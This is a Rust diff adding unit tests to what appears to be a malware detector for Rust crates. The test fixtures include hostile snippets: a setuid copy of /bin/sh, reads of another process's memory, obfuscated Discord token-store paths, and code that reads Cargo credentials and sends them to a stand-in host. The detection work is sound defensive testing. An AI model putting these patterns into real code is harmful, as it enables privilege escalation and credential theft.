@@ -182,3 +182,66 @@ pub fn hidden(raws: &[Raw]) -> Option<Raw> {
     (long || texts.len() > 1)
         .then(|| Raw::new(FactKind::Shape, "hidden-texts", first.start..first.end).value(&*first.value))
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::check::parse::rust::{parse, parse_fully};
+
+    fn has(path: &str, source: &str, name: &str) -> bool {
+        let facts = parse(path, source).facts;
+        assert_eq!(facts, parse_fully(path, source).facts, "{source}");
+        facts.iter().any(|fact| fact.name == name)
+    }
+
+    #[test]
+    fn what_tokens_say() {
+        let shell = |mode: &str| {
+            format!(
+                "fn f() {{ std::fs::copy(\"/bin/sh\", p).ok(); set(p, Permissions::from_mode({mode})); }}"
+            )
+        };
+        assert!(has("src/a.rs", &shell("0o4755"), "setuid-shell"));
+        for mode in ["0o755", "0o4000", "0o7777", "0o1777"] {
+            assert!(!has("src/a.rs", &shell(mode), "setuid-shell"), "{mode}");
+        }
+        assert!(has("src/a.rs", "fn f(pid: i32) { open(format!(\"/proc/{pid}/mem\")) }", "other-memory"));
+        assert!(!has("src/a.rs", "fn f() { open(\"/proc/self/mem\") }", "other-memory"));
+        let write = |file: &str| format!("fn f() {{ std::fs::write(\"{file}\", x).ok(); }}");
+        assert!(has("src/a.rs", &write("/var/tmp/.X1-lock"), "hidden-temporary"));
+        assert!(!has("src/a.rs", &write("/tmp/.X11-unix/X0"), "hidden-temporary"));
+        assert!(!has("src/a.rs", &write("/tmp/a.lock"), "hidden-temporary"));
+        assert!(has("src/a.rs", "fn f(w: usize) -> bool { matches!(w, 64 | 66 | 87 | 88) }", "key-lengths"));
+        assert!(!has(
+            "src/a.rs",
+            "fn f(w: usize) -> bool { matches!(w, 32 | 40 | 64 | 128) }",
+            "key-lengths"
+        ));
+        assert!(has(
+            "src/a.rs",
+            "fn f(b: &mut B) { let t = b.get_text(); b.set_text(x); }",
+            "clipboard-both"
+        ));
+        assert!(!has("src/a.rs", "fn f(b: &mut B) { let t = b.get_text(); }", "clipboard-both"));
+    }
+
+    #[test]
+    fn texts_that_are_hidden() {
+        let un = "fn un(s: &str) -> String { s.chars().rev().filter(|c| *c != '_').collect() }";
+        let two = format!("{un} fn f(p: &Path) -> P {{ p.join(un(\"d_roc_sid\")).join(un(\"bd_lev_el\")) }}");
+        assert!(has("src/a.rs", &two, "hidden-texts"));
+        let one = format!("{un} fn f(p: &Path) -> P {{ p.join(un(\"d_roc_sid\")) }}");
+        assert!(!has("src/a.rs", &one, "hidden-texts"));
+    }
+
+    #[test]
+    fn the_registrys_own_token() {
+        let source = |host: &str| {
+            format!(
+                "fn f() {{ let t = std::fs::read_to_string(home.join(\".cargo/credentials.toml\")).unwrap();
+                let _ = ureq::put(\"{host}\").set(\"Authorization\", &t).send_string(&t); }}"
+            )
+        };
+        assert!(!has("src/a.rs", &source("https://crates.io/api/v1/x"), "secret-file->net"));
+        assert!(has("src/a.rs", &source("https://crates.invalid/api/v1/x"), "secret-file->net"));
+    }
+}
